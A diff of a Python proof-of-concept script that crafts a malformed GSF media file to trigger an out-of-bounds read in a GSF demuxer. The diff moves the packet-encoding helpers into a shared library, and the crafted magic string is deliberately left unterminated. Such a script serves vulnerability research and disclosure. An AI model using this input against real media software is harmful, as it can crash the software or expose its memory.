@@ -1,37 +1,18 @@
 #!/usr/bin/env python3
 
-import os
+import sys
 from pathlib import Path
 
-def encode_vlen(val: int) -> bytes:
-    # Matches gsfdmx_read_vlen():
-    # 0xxxxxxx (7 bits), 10xxxxxxxxxxxxxx (14 bits), 110... (21), 1110... (28), 1111...(36)
-    if val < (1 << 7):
-        return bytes([val & 0x7F])
-    if val < (1 << 14):
-        bits = (0b10 << 14) | (val & 0x3FFF)
-        return bits.to_bytes(2, "big")
-    if val < (1 << 21):
-        bits = (0b110 << 21) | (val & 0x1FFFFF)
-        return bits.to_bytes(3, "big")
-    if val < (1 << 28):
-        bits = (0b1110 << 28) | (val & 0x0FFFFFFF)
-        return bits.to_bytes(4, "big")
-    bits = (0b1111 << 36) | (val & 0xFFFFFFFFF)
-    return bits.to_bytes(5, "big")
+sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+from poclib.gsf import PCK_HDR, packet_header, tune_payload
 
 def build_tune_payload(magic_bytes: bytes) -> bytes:
-    payload = b"GS5F" + bytes([2])
-    payload += bytes([0x00])  # use_seq_num=0, reserved=0
-    payload += encode_vlen(len(magic_bytes))
-    payload += magic_bytes    # intentionally NOT NUL-terminated
-    return payload
+    # use_seq_num=0, magic intentionally NOT NUL-terminated
+    return tune_payload(magic_bytes, use_seq_num=False)
 
-def build_outer_packet(tune_payload: bytes) -> bytes:
-    first = bytes([0x00])
-    st_idx = encode_vlen(0)                  # tune-in packet (st_idx==0)
-    pck_len = encode_vlen(len(tune_payload))
-    return first + st_idx + pck_len + tune_payload
+def build_outer_packet(payload: bytes) -> bytes:
+    # tune-in packet (st_idx==0), not fragmented, not encrypted
+    return packet_header(PCK_HDR, 0, len(payload)) + payload
 
 def main():
     out = Path("poc_gsf_magic_oobread.gsf")